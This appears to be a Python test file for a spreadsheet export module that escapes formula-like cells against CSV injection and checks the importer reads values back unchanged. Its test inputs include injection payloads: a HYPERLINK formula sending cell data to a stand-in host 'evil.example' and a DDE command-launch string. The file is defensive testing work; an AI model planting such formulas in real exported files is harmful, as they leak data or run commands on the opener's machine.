"""Formula-like text is written as text (OWASP, CSV Injection); numbers stay numbers; the
importer reads back exactly what was exported."""

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from core.inventory.spreadsheet import FORMULA_STARTS, csv_file, escape_formula, unescape_formula


@pytest.mark.parametrize(
    ("text", "written"),
    [
        (
            '=HYPERLINK("http://evil.example/?"&A1,"Open")',
            '\'=HYPERLINK("http://evil.example/?"&A1,"Open")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-", "'-"),
        ("'=already marked", "''=already marked"),
        ("-2.5", "-2.5"),
        ("+3", "+3"),
        ("-1e5", "-1e5"),
        ("-.5", "-.5"),
        ("-inf", "'-inf"),
        ("-2.5 ", "'-2.5 "),
        ("Alex Kim", "Alex Kim"),
        ("'quoted", "'quoted"),
        ("a=b", "a=b"),
        ("", ""),
    ],
)
def test_formula_like_text_gets_an_apostrophe_and_plain_numbers_do_not(text, written):
    assert escape_formula(text) == written


@given(st.text())
def test_the_importer_reads_back_exactly_what_was_written(text):
    assert unescape_formula(escape_formula(text)) == text


@given(st.text())
def test_no_written_text_starts_like_a_formula_unless_it_is_a_number(text):
    written = escape_formula(text)
    if written.startswith(FORMULA_STARTS):
        assert float(written) == float(text)


def test_text_someone_else_wrote_with_an_apostrophe_keeps_it_unless_it_marks_a_formula():
    assert unescape_formula("'=1+1") == "=1+1"
    assert unescape_formula("'Connor's box") == "'Connor's box"
    assert unescape_formula("O'Brien") == "O'Brien"


def test_a_csv_file_keeps_numbers_as_numbers_and_quotes_what_needs_quoting():
    content = csv_file(
        ["name", "delta", "count", "note"],
        [["-2+3", -2.5, -3, 'say "hi",\n=1+1'], ["@x", float("-inf"), 4.0, None]],
    )
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))
    assert rows == [
        ["name", "delta", "count", "note"],
        ["'-2+3", "-2.5", "-3", 'say "hi",\n=1+1'],
        ["'@x", "'-inf", "4", ""],
    ]
    # The quote and the line break are escaped by quoting the cell, as CSV says.
    assert b'"say ""hi"",\n=1+1"' in content


def test_text_is_quoted_so_a_semicolon_excel_cannot_start_a_formula_cell_inside_it():
    # Excel in many locales splits a CSV on ";": unquoted, this cell would become two,
    # the second one a formula.
    content = csv_file(["owner", "cores"], [["Dana;=HYPERLINK(1)", 4], [None, -2.5]])
    assert content.decode("utf-8-sig").splitlines() == [
        '"owner","cores"',
        '"Dana;=HYPERLINK(1)",4',
        '"",-2.5',
    ]
